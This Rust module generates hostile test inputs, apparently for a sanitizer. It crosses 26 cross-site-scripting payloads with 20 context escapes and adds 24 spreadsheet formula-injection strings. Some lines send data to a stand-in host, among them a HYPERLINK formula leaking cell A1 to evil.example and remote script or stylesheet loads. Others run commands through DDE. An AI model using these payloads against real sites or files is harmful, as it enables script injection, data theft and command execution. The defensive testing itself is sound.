//! Hostile names, made from the known families of attacks: what to run, and what to break out of.

/// What runs a script, or loads, frames, sends or redirects something, once it is markup.
const PAYLOADS: [&str; 26] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'onerror=\"alert(1)\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#x6a;avascript&colon;alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x</button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<!--<script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

/// What stands before it: how one gets out of where names are written.
const ESCAPES: [&str; 20] = [
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    " onmouseover=alert(1) x=",
    "\" onfocus=\"alert(1)\" autofocus x=\"",
    "</script>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</td></tr></table>",
    "</text></svg>",
    "</noscript>",
    "-->",
    "]]>",
    "\\\"};alert(1);//",
    "\u{2028}\u{2029}\u{202e}",
    "&quot;&gt;&lt;/p&gt;",
];

/// What a spreadsheet would run: OWASP's first characters, full-width ones, and what hides before them.
const FORMULAS: [&str; 24] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u{3000}＝1+1",
    "\u{feff}=1+1",
    "\u{200b}＠SUM(1)",
    "\u{a0}-1",
    "\";=1+1;\"",
    "x\",\"=1+1",
];

/// More than 500 different names.
pub(super) fn names() -> Vec<String> {
    let crossed = PAYLOADS.iter().flat_map(|payload| ESCAPES.iter().map(move |escape| format!("{escape}{payload}")));
    crossed.chain(FORMULAS.map(str::to_owned)).collect()
}

/// First characters that no cell with words may have.
pub(super) const STARTS_A_FORMULA: &str = "=+-@＝＋－＠\t\r\n";

#[test]
fn there_are_more_than_five_hundred_and_no_two_alike() {
    let names = names();
    let different: std::collections::HashSet<&String> = names.iter().collect();
    assert!(names.len() >= 524 && different.len() == names.len(), "{}", names.len());
}
